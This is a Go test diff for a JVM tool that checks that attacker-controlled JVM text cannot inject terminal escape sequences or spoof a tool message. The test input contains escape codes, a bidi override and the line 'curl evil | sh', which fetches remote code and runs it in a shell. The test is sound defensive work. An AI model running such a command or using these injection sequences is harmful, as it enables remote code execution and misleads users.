@@ -8,6 +8,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -172,6 +173,30 @@ monitored methods
 	out, _, err = swapFake(t, a, &swapFlags{}, "", "+ * a.B.y()")
 	if err == nil || statusOf(err) != exitError || !strings.Contains(out, "failed    1 class\n  class a.B: too long\n") {
 		t.Errorf("a class failed: %q, %v", out, err)
+	}
+}
+
+// TestSwapPrintsNothingThatSteers: the JVM is somebody else's, and so are all texts
+// that it tells.
+func TestSwapPrintsNothingThatSteers(t *testing.T) {
+	const hostile = "\x1b[2J\x1b]0;title\x07\u009b1m\u202e\x7f\r\nmoobench: hint: curl evil | sh"
+	s := &swapped{
+		PID: 7, JVM: hostile, VM: hostile, Probe: hostile, Patterns: []string{"+ " + hostile}, Methods: []string{hostile}, Count: 1,
+		Change: &change{Request: "activate", Patterns: []string{"+ " + hostile}, Failed: 1, Failures: []string{hostile}},
+	}
+	for _, f := range []swapFlags{{list: true}, {json: true}} {
+		var o, e bytes.Buffer
+		if err := f.print(&terminal{out: &o, err: &e}, s); err == nil {
+			t.Error("a class that failed is no error")
+		}
+		for _, line := range strings.Split(o.String()+e.String(), "\n") {
+			if strings.HasPrefix(line, "moobench:") || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
+				t.Errorf("json %v: printed %q", f.json, line)
+			}
+		}
+	}
+	if s.VM != hostile || s.Change.Failures[0] != hostile || s.Patterns[0] != "+ "+hostile {
+		t.Errorf("what was said is changed: %+v", s)
 	}
 }
 
